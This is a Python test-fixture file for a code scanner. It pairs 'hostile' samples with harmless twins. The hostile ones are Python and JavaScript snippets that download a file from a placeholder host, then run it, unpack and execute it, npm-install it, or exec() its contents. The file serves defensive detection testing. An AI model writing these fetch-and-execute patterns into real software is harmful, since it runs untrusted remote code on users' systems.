"""Samples and twins of files that one part of a program fetches, and another one runs."""

from inspection.rules.sample import Sample, js, py

_OPENS = "from urllib.request import urlopen, urlretrieve\nimport os, shutil, tempfile\n"
_RETURNS = (
    "def fetch(url):\n    kept = os.path.join(tempfile.gettempdir(), url.rsplit('/', 1)[-1])\n"
    "    open(kept, 'wb').write(urlopen(url).read())\n    return kept\n"
)
_IS_TOLD = (
    "def fetch(url, kept):\n    with urlopen(url) as a, open(kept, 'wb') as b:\n        shutil.copyfileobj(a, b)\n"
)
_HANDS_BACK = "def fetch(url, kept):\n    urlretrieve(url, kept)\n    return kept\n"
_NUMBERED = (
    "def fetch(url):\n    number, kept = tempfile.mkstemp()\n    with os.fdopen(number, 'wb') as file:\n"
    "        file.write(urlopen(url).read())\n    return kept\n"
)
_NAMED = (
    "def fetch(url):\n    with tempfile.NamedTemporaryFile(delete=False) as file:\n"
    "        file.write(urlopen(url).read())\n    return file.name\n"
)
_PIPES = (
    "const fs = require('fs'), https = require('https')\n"
    "exports.fetch = (url, kept) => new Promise((ok) => https.get(url, (reply) => {\n"
    "  reply.pipe(fs.createWriteStream(kept)).on('finish', () => ok(kept))\n}))\n"
)
_ARCHIVED = (
    "const os = require('os'), path = require('path'), run = require('child_process')\n"
    "const kept = path.join(os.tmpdir(), 'a'), home = os.homedir()\n"
)
_USES = "import os, subprocess, sys\nfrom fetching import fetch\n"
_URL = "'https://a.invalid/a'"


def _python(fetches: str, uses: str) -> dict[str, str | bytes]:
    return {"fetching.py": _OPENS + fetches, "app.py": _USES + uses}


def _javascript(uses: str) -> dict[str, str | bytes]:
    told = f"fetch({_URL}, '/tmp/a').then((kept) => run.{uses})\n"
    return {
        "fetching.js": _PIPES,
        "app.js": "const { fetch } = require('./fetching')\nconst run = require('child_process')\n" + told,
    }


def _ran(files: dict[str, str | bytes], place: tuple[str, int] = ("app.py", 3)) -> Sample:
    return Sample(files, "block", place)


_CHUNKS = "import requests, subprocess\nchunks = []\nfor each in requests.get('https://a.invalid').iter_content():\n"

HOSTILE: dict[str, dict[str, Sample]] = {
    "remote_command": {
        "a helper says where it saved it": _ran(_python(_RETURNS, f"subprocess.run([fetch({_URL}), '-u'])\n")),
        "an interpreter is given it": _ran(_python(_RETURNS, f"subprocess.run([sys.executable, fetch({_URL})])\n")),
        "a helper is told where to save it": _ran(
            _python(_IS_TOLD, f"kept = os.environ['A']\nfetch({_URL}, kept)\nsubprocess.run([kept])\n"), ("app.py", 5)
        ),
        "a helper hands back where it was told to": _ran(
            _python(_HANDS_BACK, f"subprocess.run([fetch({_URL}, sys.argv[1])])\n")
        ),
        "a temporary file by its number": _ran(_python(_NUMBERED, f"subprocess.run([fetch({_URL})])\n")),
        "a temporary file by its name": _ran(_python(_NAMED, f"subprocess.run([fetch({_URL})])\n")),
        "a stream, in JavaScript": _ran(_javascript("execFile(kept)"), ("app.js", 3)),
        "an archive is fetched, unpacked and run by commands": js(
            _ARCHIVED + 'run.exec(`curl -Lo "${kept}" https://a.invalid`, () => run.exec(`tar -xf "${kept}" -C "${home}'
            "\"`,\n  () => run.exec('python3 \"' + path.join(home, '.a') + '\"')))\n",
            line=4,
        ),
        "by lists of words": py(
            "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/a.zip', 'https://a.invalid'])\n"
            "subprocess.run(['unzip', '/tmp/a.zip', '-d', '/tmp/a'])\nsubprocess.run(['python3', '/tmp/a/b.py'])\n",
            line=4,
        ),
        "it is moved before it is run": py(
            "import subprocess\nsubprocess.run(['curl', '-o', '/tmp/a', 'https://a.invalid'])\n"
            "subprocess.run(['mv', '/tmp/a', '/tmp/b'])\nsubprocess.run(['/tmp/b'])\n",
            line=4,
        ),
        "what was unpacked is built": js(
            "const fs = require('fs'), { execSync } = require('child_process')\n"
            "fetch('https://a.invalid').then(async (reply) => {\n"
            "  fs.writeFileSync('/tmp/a.zip', Buffer.from(await reply.arrayBuffer()))\n"
            "  execSync('unzip /tmp/a.zip -d /tmp/a')\n  execSync('npm i', { cwd: '/tmp/a' })\n})\n",
            "review",
            line=5,
        ),
        "chunks that are joined": py(
            _CHUNKS + "    chunks.append(each)\nopen('/tmp/a', 'wb').write(b''.join(chunks))\n"
            "subprocess.run(['/tmp/a'])\n",
            line=6,
        ),
        "buffers that are put together": js(
            "const fs = require('fs'), run = require('child_process')\n"
            "fetch('https://a.invalid').then(async (reply) => {\n  const all = Buffer.from(await reply.arrayBuffer())\n"
            "  fs.writeFileSync('/tmp/a', Buffer.concat([all.subarray(16), all.subarray(0, 16)]))\n"
            "  run.execFile('/tmp/a')\n})\n",
            line=5,
        ),
    },
    "remote_code": {
        "a helper's file is read and executed": _ran(_python(_RETURNS, f"exec(open(fetch({_URL})).read())\n")),
    },
}

HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
    "remote_command": {
        "what a helper saved is measured": _python(_RETURNS, f"subprocess.run(['sha256sum', fetch({_URL})])\n"),
        "what a helper was told to save is added": _python(
            _IS_TOLD, f"fetch({_URL}, '/tmp/a')\nsubprocess.run(['git', 'add', '/tmp/a'])\n"
        ),
        "an archive is fetched and unpacked by commands, and something else is run": {
            "app.js": _ARCHIVED
            + 'run.exec(`curl -Lo "${kept}" https://a.invalid`, () => run.exec(`tar -xf "${kept}" -C data`,\n'
            "  () => run.exec('python3 \"' + path.join(home, '.a') + '\"')))\n",
        },
        "another file than the one that was saved": _python(
            _IS_TOLD, f"fetch({_URL}, '/tmp/a')\nsubprocess.run(['/tmp/b'])\n"
        ),
        "what is unpacked, in JavaScript": _javascript("execFile('tar', ['xf', kept])"),
        "chunks that are measured": {"app.py": _CHUNKS + "    chunks.append(each)\nprint(len(b''.join(chunks)))\n"},
    },
    "remote_code": {
        "a helper's file is read": _python(_RETURNS, f"print(open(fetch({_URL})).read())\n"),
    },
}
